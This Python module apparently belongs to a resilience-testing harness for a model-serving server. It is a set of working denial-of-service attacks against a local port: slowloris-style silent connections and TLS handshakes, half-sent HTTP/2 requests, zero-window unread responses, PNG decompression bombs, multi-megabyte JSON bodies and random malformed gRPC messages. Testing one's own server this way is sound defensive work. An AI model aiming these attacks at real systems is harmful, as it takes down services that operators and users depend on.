"""The attacks. Each goes on until its time is over and returns what it did."""

import http.client
import random
import time

import http2
import messages


def hold(make, count, seconds):
    """Keeps `count` connections open; makes those anew that the server has ended."""
    end, made, kept = time.monotonic() + seconds, 0, []
    while time.monotonic() < end:
        kept = [connection for connection in kept if http2.is_open(connection)]
        try:
            while len(kept) < count and time.monotonic() < end:
                kept.append(make())
                made += 1
        except OSError:
            pass
        time.sleep(0.01)
    return made


def silent_connections(port, seconds):
    made = hold(lambda: http2.silent(port), 1_500, seconds)
    return f"{made:,} connections"


def silent_handshakes(port, seconds):
    made = hold(lambda: http2.silent_in_handshake(port), 500, seconds)
    return f"{made:,} handshakes"


def half_requests(port, seconds):
    """128 requests on each of eight connections, three bytes of each."""
    def make():
        connection = http2.Connection(port)
        for _ in range(128):
            stream = connection.begin(messages.PREDICT)
            connection.send(stream, b"\0\0\0", end=False)
        return connection

    made = hold(make, 8, seconds)
    return f"{128 * made:,} requests"


def unread_responses(port, seconds):
    """Requests of large responses, of which no byte is read."""
    request = messages.grpc_frame(messages.predict(1_000, want_input=True))

    def make():
        connection = http2.Connection(port, window=0)
        for _ in range(64):
            connection.send(connection.begin(messages.PREDICT), request, end=True)
        return connection

    made = hold(make, 4, seconds)
    return f"{64 * made:,} responses"


def call_repeatedly(port, path, request, in_flight, seconds):
    """Unary calls over gRPC; the number of each code."""
    import grpc

    codes = {}
    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    with grpc.insecure_channel(f"127.0.0.1:{port}", options=options) as channel:
        method = channel.unary_unary(path)
        end, calls = time.monotonic() + seconds, []
        while time.monotonic() < end:
            content = request() if callable(request) else request
            calls.append(method.future(content, timeout=30))
            if len(calls) >= in_flight:
                error = calls.pop(0).exception()
                code = error.code().name if error else "OK"
                codes[code] = codes.get(code, 0) + 1
        for call in calls:
            call.cancel()
    return ", ".join(f"{count:,} {code}" for code, count in sorted(codes.items()))


def greedy_batches(port, seconds):
    return call_repeatedly(port, messages.PREDICT, messages.predict(4_096), 64, seconds)


def tiny_inputs(port, seconds):
    return call_repeatedly(port, messages.MODEL_INFER, messages.tiny_inputs(16_000_000), 4, seconds)


def picture_bombs(port, seconds):
    request = messages.predict_pictures(messages.flat_png(65_535, 305), 256)
    return call_repeatedly(port, messages.PREDICT, request, 4, seconds)


def malformed_messages(port, seconds):
    generator = random.Random(7)
    return call_repeatedly(
        port, messages.MODEL_INFER, lambda: generator.randbytes(generator.randrange(1, 200)), 32, seconds)


def post_repeatedly(port, path, body, seconds):
    """Requests over plain HTTP, one after the other; the number of each status."""
    statuses, end = {}, time.monotonic() + seconds
    while time.monotonic() < end:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        try:
            connection.request("POST", path, body, {"Content-Type": "application/json"})
            status = connection.getresponse().status
        except OSError:
            status = "closed"
        statuses[status] = statuses.get(status, 0) + 1
        connection.close()
    return ", ".join(f"{count:,} HTTP {status}" for status, count in statuses.items())


def json_parameters(port, seconds):
    return post_repeatedly(port, "/v2/models/digits/infer", messages.parameters_document(10_700_000), seconds)


def json_pictures(port, seconds):
    body = messages.json_list('{"pictures": {"encoded": [', '""', "]}}", 16_000_000)
    return post_repeatedly(port, messages.PREDICT, body, seconds)


def json_numbers(port, seconds):
    body = messages.json_list('{"inputs": [{"contents": {"fp64Contents": [', "0", "]}}]}", 16_000_000)
    return post_repeatedly(port, messages.MODEL_INFER, body, seconds)


ALL = {
    "nothing": lambda port, seconds: time.sleep(seconds) or "",
    "silent connections": silent_connections,
    "silent TLS handshakes": silent_handshakes,
    "half a request each": half_requests,
    "responses nobody reads": unread_responses,
    "batches of 4,096, 64 at once": greedy_batches,
    "8 million empty inputs": tiny_inputs,
    "256 PNG of 20 MP a request": picture_bombs,
    "10.7 MB of JSON parameters": json_parameters,
    "5 million pictures in JSON": json_pictures,
    "8 million numbers in JSON": json_numbers,
    "random messages": malformed_messages,
}
